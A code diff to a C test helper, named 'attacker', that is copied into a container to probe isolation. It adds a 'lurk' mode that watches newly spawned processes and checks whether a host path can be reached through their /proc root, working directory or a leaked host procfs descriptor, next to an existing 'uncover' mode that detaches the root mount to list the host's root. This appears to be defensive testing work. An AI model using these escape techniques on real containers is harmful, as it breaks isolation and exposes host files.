@@ -3,10 +3,14 @@
  * attacker - what a container does that busybox cannot; built static, copied into its root
  *
  *   uncover    detaches its own root, enters the root of its mount namespace anew, and lists it
+ *   lurk PATH  looks at every process that comes, as early as it can be seen, and whether PATH of
+ *              the host can be reached through its root, its working directory or a descriptor
  */
 #include <dirent.h>
 #include <fcntl.h>
+#include <limits.h>
 #include <sched.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/mount.h>
@@ -26,10 +30,11 @@ static int list(const char *path)
     return closedir(dir) < 0;
 }
 
-static int uncover(void)
+static int uncover(const char *arg)
 {
     int fd = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
 
+    (void)arg;
     if (fd < 0 || umount2("/", MNT_DETACH) < 0 || setns(fd, CLONE_NEWNS) < 0) {
         perror("uncover");
         return 1;
@@ -37,17 +42,66 @@ static int uncover(void)
     return list("/");
 }
 
+#define FDS   24 /* descriptors that are looked through */
+#define AHEAD 4  /* process ids ahead of the newest one */
+
+static bool reaches(int pid, const char *way, const char *path)
+{
+    char text[PATH_MAX];
+
+    (void)snprintf(text, sizeof text, "/proc/%d/%s/%s", pid, way, path);
+    return access(text, F_OK) == 0;
+}
+
+static bool look_at(int pid, const char *path)
+{
+    char way[32];
+
+    if (reaches(pid, "root", path) && printf("through the root of %d\n", pid) > 0)
+        return true;
+    if (reaches(pid, "cwd", path) && printf("through the directory of %d\n", pid) > 0)
+        return true;
+    for (int fd = 3; fd < FDS; fd++) {
+        /* A descriptor of the host's procfs leads to its process 1, and through that to all. */
+        (void)snprintf(way, sizeof way, "fd/%d/1/root", fd);
+        if (reaches(pid, way, path) && printf("through descriptor %d of %d\n", fd, pid) > 0)
+            return true;
+    }
+    return false;
+}
+
+static int lurk(const char *path)
+{
+    int newest = getpid();
+
+    (void)puts("ready");
+    (void)fflush(stdout);
+    while (access("/stop", F_OK) < 0)
+        for (int pid = newest + AHEAD; pid > newest; pid--) {
+            char text[32];
+
+            if (look_at(pid, path))
+                return 0;
+            (void)snprintf(text, sizeof text, "/proc/%d", pid);
+            if (access(text, F_OK) == 0)
+                newest = pid - 1; /* one more look, until it has gone or is old news */
+        }
+    (void)puts("nothing");
+    return 0;
+}
+
 static const struct {
     const char *name;
-    int (*run)(void);
+    int (*run)(const char *arg);
 } attacks[] = {
     {"uncover", uncover},
+    {"lurk", lurk},
 };
 
 int main(int argc, char **argv)
 {
-    for (size_t i = 0; argc == 2 && i < ARRAY_N(attacks); i++)
+    for (size_t i = 0; argc > 1 && i < ARRAY_N(attacks); i++)
         if (strcmp(argv[1], attacks[i].name) == 0)
-            return attacks[i].run();
+            return attacks[i].run(argc > 2 ? argv[2] : "");
     return 2;
 }
